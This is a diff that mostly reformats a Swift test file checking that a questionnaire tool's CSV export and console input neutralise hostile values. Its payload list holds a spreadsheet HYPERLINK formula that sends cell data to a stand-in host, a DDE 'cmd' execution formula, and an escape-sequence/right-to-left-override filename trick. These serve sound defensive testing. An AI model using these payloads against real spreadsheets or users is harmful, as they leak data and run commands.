@@ -1,12 +1,15 @@
 import AuditModel
 import Foundation
-import Testing
 import TestSupport
+import Testing
 import Workspace
+
 @testable import Questionnaire
 
 /// Payloads a client's file or a person may hold, to be shown and written harmlessly.
-let formulaPayloads = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "=cmd|' /C calc'!A0", "@SUM(1)", "+1", "-1", "'=already quoted"]
+let formulaPayloads = [
+    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "=cmd|' /C calc'!A0", "@SUM(1)", "+1", "-1", "'=already quoted",
+]
 
 @Suite struct AnswersCSVFormulas {
     private func answer(_ id: String, _ value: AnswerValue, note: String? = nil) -> Answer {
@@ -21,7 +24,8 @@ let formulaPayloads = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "=c
         let quoted = "\"'" + payload.replacingOccurrences(of: "\"", with: "\"\"") + "\""
         #expect(text.contains(";" + quoted + ";" + quoted + ";;\r\n"), "\(text)")
         #expect(text.contains(";-5;;;\r\n"), "a number the tool writes stays a number")
-        let (read, diagnostics, _) = AnswersFile.read(text: text, file: "a.csv", format: .csv, questionnaire: questionnaire, answeredAt: "t")
+        let (read, diagnostics, _) = AnswersFile.read(
+            text: text, file: "a.csv", format: .csv, questionnaire: questionnaire, answeredAt: "t")
         #expect(!diagnostics.contains { $0.severity == .error && !$0.text.en.contains("managers") })
         let comment = read.first { $0.questionID == "comment" }
         #expect(comment?.value == .text(payload))
@@ -39,14 +43,16 @@ let formulaPayloads = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "=c
     func aTypedAnswerWithEscapeSequencesIsShownHarmless(onATerminal: Bool) throws {
         let fixture = try InterviewFixture()
         defer { fixture.directory.remove() }
-        var interview = try Interview(questionnaire: fixture.questionnaire, store: fixture.workspace,
-                                      round: try fixture.workspace.round(), language: .en)
+        var interview = try Interview(
+            questionnaire: fixture.questionnaire, store: fixture.workspace,
+            round: try fixture.workspace.round(), language: .en)
         var console = ScriptedConsole(["2", "yes", "2026-03-01", "1,2", "7", Self.hostile])
         console.isTerminal = onATerminal
         _ = try interview.run(console: &console)
         #expect(try fixture.stored()["comment"]?.value == .text("Hello"))
-        var again = try Interview(questionnaire: fixture.questionnaire, store: fixture.workspace,
-                                  round: try fixture.workspace.round(), language: .en)
+        var again = try Interview(
+            questionnaire: fixture.questionnaire, store: fixture.workspace,
+            round: try fixture.workspace.round(), language: .en)
         var second = ScriptedConsole(["n", "note \u{1B}[2J\u{202E}txt.exe", ""])
         second.isTerminal = onATerminal
         _ = try again.edit(questionID: "comment", console: &second)
